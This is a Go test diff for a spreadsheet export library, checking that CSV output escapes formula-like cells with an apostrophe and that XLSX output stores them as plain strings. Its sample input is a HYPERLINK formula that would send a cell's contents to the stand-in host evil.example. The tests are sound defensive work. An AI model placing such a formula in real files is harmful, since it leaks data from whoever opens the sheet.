@@ -162,3 +162,81 @@ func TestSheetName(t *testing.T) {
 		t.Errorf("SheetName(main) = %s", got)
 	}
 }
+
+// TestCSVFormulaInjection: a cell a spreadsheet would run as a formula is
+// written with an apostrophe in front and read back exactly; numbers and
+// harmless text are written as they are.
+func TestCSVFormulaInjection(t *testing.T) {
+	for _, tc := range []struct {
+		cell    Cell
+		written string
+	}{
+		{Cell{Text: `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`}, `"'=HYPERLINK(""http`},
+		{Cell{Text: "+1 heat"}, "'+1 heat"},
+		{Cell{Text: "-2 heat"}, "'-2 heat"},
+		{Cell{Text: "@SUM(A1:A9)"}, "'@SUM(A1:A9)"},
+		{Cell{Text: "\t=1+1"}, "'\t=1+1"},
+		{Cell{Text: "\r=1+1"}, "\"'\r=1+1"},
+		{Cell{Text: "'=already"}, "''=already"},
+		{Cell{Text: "''-twice"}, "'''-twice"},
+		{Cell{Text: "-3", Type: CellNumber}, "-3"},
+		{Cell{Text: "-3"}, "'-3"},
+		{Cell{Text: "'quoted'"}, "'quoted'"},
+		{Cell{Text: "a=b"}, "a=b"},
+		{Cell{Text: "'"}, "'"},
+	} {
+		tab := &Table{Header: []string{"id", "text"}, Rows: []Row{{Num: 2, Cells: []Cell{{Text: "a"}, tc.cell}}}}
+		data, err := WriteCSV(tab)
+		if err != nil {
+			t.Fatal(err)
+		}
+		line := strings.TrimPrefix(string(data), "id,text\na,")
+		if !strings.HasPrefix(line, tc.written) {
+			t.Errorf("%q written as %q, want it to start %q", tc.cell.Text, line, tc.written)
+		}
+		back, err := ReadCSV(data)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := back.Rows[0].Cell(1); got != tc.cell.Text {
+			t.Errorf("%q read back as %q", tc.cell.Text, got)
+		}
+	}
+	// The header too: a hand-made sheet's header cell is restored.
+	back, err := ReadCSV([]byte("id,'=name\na,b\n"))
+	if err != nil || back.Header[1] != "=name" {
+		t.Errorf("header read as %v (%v)", back.Header, err)
+	}
+}
+
+// TestXLSXTextIsNeverAFormula: a text cell that looks like a formula is
+// stored as a string (no <f> element, type "s"), so a spreadsheet shows
+// it and runs nothing, and it reads back exactly, without an apostrophe.
+func TestXLSXTextIsNeverAFormula(t *testing.T) {
+	payload := `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`
+	tab := &Table{Name: "main", Header: []string{"id", "text"}, Rows: []Row{{Num: 2, Cells: []Cell{{Text: "a"}, {Text: payload}}}}}
+	data, err := WriteXLSX([]*Table{tab})
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if formula, _ := f.GetCellFormula("main", "B2"); formula != "" {
+		t.Errorf("B2 holds the formula %q", formula)
+	}
+	if ty, _ := f.GetCellType("main", "B2"); ty != excelize.CellTypeSharedString {
+		t.Errorf("B2 has type %v, want a shared string", ty)
+	}
+	f.Close()
+	wb, err := OpenXLSX(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer wb.Close()
+	back, err := wb.Sheet("main")
+	if err != nil || back.Rows[0].Cell(1) != payload {
+		t.Errorf("read back %v (%v)", back, err)
+	}
+}
